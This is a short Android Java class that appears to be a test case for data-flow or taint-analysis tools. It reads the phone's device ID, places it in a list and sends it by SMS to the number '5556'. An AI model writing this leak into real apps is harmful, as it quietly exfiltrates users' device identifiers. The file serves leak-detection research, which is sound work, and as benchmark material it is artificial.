package org.brookside.flows;

import android.app.*;
import android.content.*;
import android.database.Cursor;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.util.Log;
import android.view.View;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;

/** A list is walked. */
public class ListAny extends Case {
    @Override protected void onCreate(Bundle s) {
        super.onCreate(s);
        List<String> l = new LinkedList<>();
        l.add(((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId());
        for (String x : l) SmsManager.getDefault().sendTextMessage("5556", null, x, null, null);
    }
}
